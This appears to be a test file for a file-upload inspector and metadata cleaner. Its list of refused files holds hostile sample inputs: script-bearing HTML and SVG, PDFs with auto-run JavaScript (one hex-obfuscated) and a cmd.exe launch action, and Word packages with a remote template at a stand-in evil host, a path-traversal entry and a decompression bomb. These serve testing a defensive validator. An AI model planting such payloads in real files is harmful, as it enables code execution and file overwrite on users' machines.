import { strToU8, zipSync } from 'fflate';
import sharp from 'sharp';
import { describe, expect, test } from 'vitest';
import { cleanFile } from './clean.ts';
import { inspectFile } from './inspect.ts';

const TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const office = (more: Record<string, string | Uint8Array> = {}) => zipSync(Object.fromEntries(Object.entries({ '[Content_Types].xml': TYPES, 'word/document.xml': '<w:document/>', ...more }).map(([name, content]) => [name, typeof content === 'string' ? strToU8(content) : content])));
const pdf = (body = '', info = '') => strToU8(`%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R${body}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\n4 0 obj<<${info}>>endobj\ntrailer<</Root 1 0 R/Info 4 0 R>>\n%%EOF`);
const picture = () => sharp({ create: { width: 8, height: 8, channels: 3, background: 'teal' } });
const EXIF = { IFD0: { Artist: 'Jane' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '52/1 0/1 0/1' } };

const GOOD: [string, () => Promise<Uint8Array> | Uint8Array][] = [
  ['card.png', () => picture().png().toBuffer()],
  ['card.jpg', () => picture().jpeg().toBuffer()],
  ['card.webp', () => picture().webp().toBuffer()],
  ['plan.pdf', () => pdf()],
  ['plan-2.pdf', () => pdf('', '/Author(Oak Primary School)')],
  ['plan.docx', () => office()],
  ['plan-2.docx', () => office({ 'docProps/core.xml': '<dc:creator></dc:creator>' })],
];

test.each(GOOD)('%s may be shared', async (name, make) => {
  expect(await inspectFile({ name, bytes: new Uint8Array(await make()) })).toEqual([]);
});

const BAD: [string, string, () => Promise<Uint8Array> | Uint8Array][] = [
  ['a page of HTML called a picture', 'card.jpg', () => strToU8('<html><script>alert(1)</script></html>')],
  ['a PNG called JPG', 'card.jpg', () => picture().png().toBuffer()],
  ['HTML called PDF', 'plan.pdf', () => strToU8('<html></html>')],
  ['a drawing that can run', 'card.svg', () => strToU8('<svg onload="alert(1)"/>')],
  ['a page', 'page.html', () => strToU8('<html/>')],
  ['a program', 'run.js', () => strToU8('alert(1)')],
  ['a phone’s own kind of picture', 'photo.heic', () => strToU8('x')],
  ['an old Word file', 'plan.doc', () => strToU8('x')],
  ['a Word file for macros', 'plan.docm', () => office()],
  ['an empty file', 'plan.pdf', () => new Uint8Array()],
  ['a picture of 9 MB', 'card.png', () => new Uint8Array(9_000_000)],
  ['a photograph with its place', 'photo.jpg', () => picture().jpeg().withExif(EXIF).toBuffer()],
  ['a PNG with notes', 'photo.png', () => picture().png().withExif(EXIF).toBuffer()],
  ['a WebP with notes', 'photo.webp', () => picture().webp().withExif(EXIF).toBuffer()],
  ['a PDF that runs', 'plan.pdf', () => pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>')],
  ['a PDF that hides that it runs', 'plan.pdf', () => pdf('/OpenAction<</S/J#61vaScript/J#53(app.alert(1))>>')],
  ['a PDF that starts a program', 'plan.pdf', () => pdf('/OpenAction<</S/Launch/F(cmd.exe)>>')],
  ['a PDF with another file in it', 'plan.pdf', () => pdf('/Names<</EmbeddedFiles<<>>>>')],
  ['a PDF with a form of the old kind', 'plan.pdf', () => pdf('/AcroForm<</XFA[]>>')],
  ['a PDF that is locked', 'plan.pdf', () => pdf('/Encrypt 9 0 R')],
  ['a PDF that names its author', 'plan.pdf', () => pdf('', '/Author(Jane Example)')],
  ['a PDF that is cut off', 'plan.pdf', () => strToU8('%PDF-1.4\n')],
  ['a Word file that is locked', 'plan.docx', () => Uint8Array.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, ...new Uint8Array(600)])],
  ['a Word file with macros', 'plan.docx', () => office({ 'word/vbaProject.bin': 'x' })],
  ['a Word file with another in it', 'plan.docx', () => office({ 'word/embeddings/a.bin': 'x' })],
  ['a Word file with controls', 'plan.docx', () => office({ 'word/activeX/a.xml': 'x' })],
  ['a Word file that loads its template', 'plan.docx', () => office({ 'word/_rels/settings.xml.rels': '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>' })],
  ['a Word file that would write elsewhere', 'plan.docx', () => office({ '../../netlify.toml': 'x' })],
  ['a Word file far larger inside', 'plan.docx', () => office({ 'word/big.xml': new Uint8Array(101_000_000) })],
  ['a Word file that names its author', 'plan.docx', () => office({ 'docProps/core.xml': '<dc:creator>Jane Example</dc:creator>' })],
  ['a Word file with somebody’s comment', 'plan.docx', () => office({ 'word/comments.xml': '<w:comment w:author="Jane Example" w:initials="JE"/>' })],
];

test.each(BAD)('%s is refused, with what to do', async (_, name, make) => {
  const faults = await inspectFile({ name, bytes: new Uint8Array(await make()) });
  expect(faults.map(({ what, why, remedy }) => `${what} ${why} → ${remedy}`)).toMatchSnapshot();
  expect(faults).toHaveLength(1);
});

describe('a document that was cleaned', () => {
  test('names nobody any more, and is the same document otherwise', async () => {
    const bytes = office({ 'docProps/core.xml': '<dc:creator>Jane Example</dc:creator>', 'docProps/app.xml': '<Company>Acme</Company>', 'word/comments.xml': '<w:comment w:author="Jane Example" w:initials="JE"/>', 'word/document.xml': '<w:p w:name="Heading">Words</w:p>' });
    const clean = await cleanFile({ name: 'plan.docx', bytes });
    expect(await inspectFile({ name: 'plan.docx', bytes: clean.bytes })).toEqual([]);
    expect((await cleanFile({ name: 'plan.docx', bytes: clean.bytes })).bytes).toEqual(clean.bytes);
  });
});
